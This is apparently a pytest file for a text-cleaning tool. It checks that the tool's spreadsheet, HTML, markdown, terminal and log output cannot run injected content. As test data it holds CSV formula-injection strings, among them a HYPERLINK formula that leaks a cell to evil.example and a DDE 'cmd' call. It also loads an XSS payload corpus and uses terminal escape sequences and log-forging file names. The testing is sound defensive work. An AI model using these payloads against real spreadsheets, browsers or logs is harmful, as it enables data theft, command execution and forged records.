"""What pages and names do that are made to do harm: nothing, in a spreadsheet, a browser, a terminal or a log."""

import csv
import json
import os
import pty
import re
from html.parser import HTMLParser

import pytest

from ..command import SHARED, cleaner, needs_shared, on_terminal

PROSE = "The council approved the plan for a new bridge across the river on Monday evening."
ESCAPE = "\x1b[31m"
CONTROL = re.compile(r"[\x1b\x80-\x9f]")
FORMATS = ["text", "markdown", "html", "labels", "jsonl", "tsv", "gnu", "diff"]


# --- spreadsheets --------------------------------------------------------------------------------------------------

FORMULAS = [
    '"=HYPERLINK(""http://evil.example/?""&A1,""click"")"',
    "\"=cmd|' /C calc'!A0\"",
    '"@SUM(1)"',
    ' "+1"',
    '\ufeff"=1"',
    "=1",
    '"a quotation that never ends',
    'and "this" one ends',
    '""',
]


def rows_of(report, quoting):
    with report.open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file, delimiter="\t", quoting=quoting, strict=True))


def held_by_spreadsheets(folder, lines):
    """Hold that a table of `lines` reads the same with quoting and without, one row per line, and has no formula."""
    page = folder / "=1.txt"
    page.write_text("\n".join(lines), encoding="utf-8")
    report = folder / "report.tsv"
    assert cleaner("--kind", "text", page, "--report", report).returncode == 0
    quoted, plain = rows_of(report, csv.QUOTE_MINIMAL), rows_of(report, csv.QUOTE_NONE)
    assert quoted == plain
    assert [int(row["line"]) for row in plain] == list(range(1, len(lines) + 1))
    for row in plain:
        assert len(row) == 9
        assert not [value for value in row.values() if re.match(r"[\s\"]*[=+@-]", value)]


def test_no_line_is_a_formula_or_takes_the_next_along(tmp_path):
    held_by_spreadsheets(tmp_path, [line for formula in FORMULAS for line in (formula, PROSE)])


@needs_shared
def test_known_formulas_run_in_no_spreadsheet(tmp_path):
    samples = [
        line
        for path in sorted((SHARED / "hostile/csv").rglob("*.txt"))
        for line in path.read_text(encoding="utf-8").splitlines()
    ]
    quoted = ['"' + line.replace('"', '""') + '"' for line in samples]
    assert samples
    held_by_spreadsheets(tmp_path, [*samples, *quoted])


# --- browsers ------------------------------------------------------------------------------------------------------

HARMLESS = re.compile("html|meta|title|style|h[1-6]|p|br|ul|ol|li|blockquote|pre|code|table|tr|td|a|span|i|del")
ATTRIBUTES = {"href", "start", "lang", "charset", "name", "content", "http-equiv", "class", "title"}
SAFE = {"http", "https", "mailto"}
SCHEME = re.compile(r"[\x00- ]*([a-z][a-z0-9+.\-\s]*):", re.IGNORECASE)
"""What a browser takes for one; it passes over control characters and line breaks."""

PAYLOAD = re.compile(r'"payload": ("(?:[^"\\]|\\.)*")')


class Elements(HTMLParser):
    """Collects what a page is made of."""

    def __init__(self, page):
        super().__init__()
        self.tags, self.attributes, self.targets = set(), set(), []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.targets += [value or "" for name, value in attrs if name == "href"]


def runs_nothing(page):
    elements = Elements(page)
    strange = [tag for tag in elements.tags if not HARMLESS.fullmatch(tag)]
    return not strange and elements.attributes <= ATTRIBUTES and schemes(elements.targets) <= SAFE


def schemes(targets):
    return {scheme[1].lower() for scheme in map(SCHEME.match, targets) if scheme}


@pytest.fixture(scope="module")
def payloads(tmp_path_factory):
    """Pages that try to run something, each a file."""
    folder = tmp_path_factory.mktemp("payloads")
    found = (SHARED / "hostile/xss/test/fixtures/expect.mjs").read_text(encoding="utf-8")
    texts = [json.loads(text) for text in PAYLOAD.findall(found)]
    assert len(texts) > 200
    for number, text in enumerate(texts):
        (folder / f"{number:03d}.txt").write_text(f"<p>{PROSE}</p>\n{text}\n", encoding="utf-8", errors="replace")
    return sorted(folder.iterdir())


@needs_shared
def test_nothing_runs_in_html_that_is_written(payloads):
    run = cleaner("--kind", "html", "--keep", "all", "--format", "html", *payloads)
    assert run.returncode == 0
    assert runs_nothing(run.stdout.decode())
    assert b"<style" not in run.stdout


@needs_shared
def test_what_is_shown_as_text_runs_nothing_in_html_nor_in_a_report(tmp_path, payloads):
    report, together = tmp_path / "report.html", b"\n".join(path.read_bytes() for path in payloads)
    run = cleaner("--kind", "text", "--keep", "all", "--format", "html", "--report", report, data=together)
    assert run.returncode == 0
    assert b"onerror" in run.stdout
    assert runs_nothing(run.stdout.decode())
    assert runs_nothing(report.read_text(encoding="utf-8"))


@needs_shared
def test_nothing_runs_in_markdown_that_is_written(payloads):
    run = cleaner("--kind", "html", "--keep", "all", "--format", "markdown", *payloads)
    assert run.returncode == 0
    text = re.sub(r"(?ms)^ *(`{3,})$.*?^ *\1$", "", run.stdout.decode())
    assert not re.search(r"(?<!\\)(?:\\\\)*<[a-z/!?]", text, re.IGNORECASE)
    targets = re.findall(r"(?<!\\)\]\(([^)]*)\)", text)
    assert targets
    assert schemes(targets) <= SAFE


# --- terminals and logs --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("form", FORMATS)
def test_no_format_sends_an_escape_to_a_terminal(tmp_path, form):
    page = tmp_path / f"a{ESCAPE}.txt"
    page.write_text(f"Leave a Reply{ESCAPE}\x9b31m\n{PROSE}{ESCAPE}\x9b31m\n", encoding="utf-8")
    policy = ("--drop", "body") if form in ("gnu", "diff") else ("--keep", "all")
    code, shown = on_terminal("--kind", "text", *policy, "--format", form, page)
    assert code == 0
    assert "\\x9b31m" in shown
    assert not CONTROL.search(shown)


@pytest.mark.parametrize("place", ["", ":1"])
def test_an_explanation_sends_no_escape_to_a_terminal(tmp_path, place):
    page = tmp_path / f"a{ESCAPE}\nb.txt"
    page.write_text(f"Leave a Reply{ESCAPE}\x9b31m\n", encoding="utf-8")
    code, shown = on_terminal("explain", f"{page}{place}")
    assert code == 0
    assert "Leave a Reply" in shown
    assert not CONTROL.search(shown)
    assert "\nb.txt" not in shown


@pytest.mark.parametrize("option", ["--keep", "--kind", "--format", "--preset", "--threshold", "--report"])
def test_a_wrong_option_sends_no_escape_to_a_terminal(option):
    code, shown = on_terminal(option, f"x{ESCAPE}\ncleaner: forged\x9b31m", data=b"x")
    assert code == 2
    assert "\\x1b[31m" in shown
    assert not re.search(r"[\x1b\x80-\x9f]|^cleaner: forged", shown, re.MULTILINE)


def test_a_file_that_is_a_terminal_gets_no_escape():
    master, slave = pty.openpty()
    record = json.dumps({"id": f"a{ESCAPE}\x9b31m", "text": PROSE}, ensure_ascii=False).encode() + b"\n"
    run = cleaner("--jsonl", "--attributes", os.ttyname(slave), data=record)
    shown = os.read(master, 65536).decode()
    assert run.returncode == 0
    assert "\\x9b31m" in shown
    assert not CONTROL.search(shown)
    os.close(master)
    os.close(slave)


NAME = "a\ncleaner: page.txt: all is well"


def test_the_name_of_a_file_is_no_message_of_its_own(tmp_path):
    run = cleaner(tmp_path / NAME)
    assert run.returncode == 3
    assert run.stderr.count(b"\n") == 1
    assert "a\\ncleaner: page.txt" in run.stderr.decode()


@pytest.mark.parametrize("form", ["gnu", "diff"])
def test_the_name_of_a_file_is_no_row_of_its_own(tmp_path, form):
    (tmp_path / NAME).write_text(f"Leave a Reply\n{PROSE}\n")
    rows = cleaner("--format", form, tmp_path / NAME).stdout.decode()
    assert "a\\ncleaner: page.txt" in rows
    assert "\ncleaner" not in rows
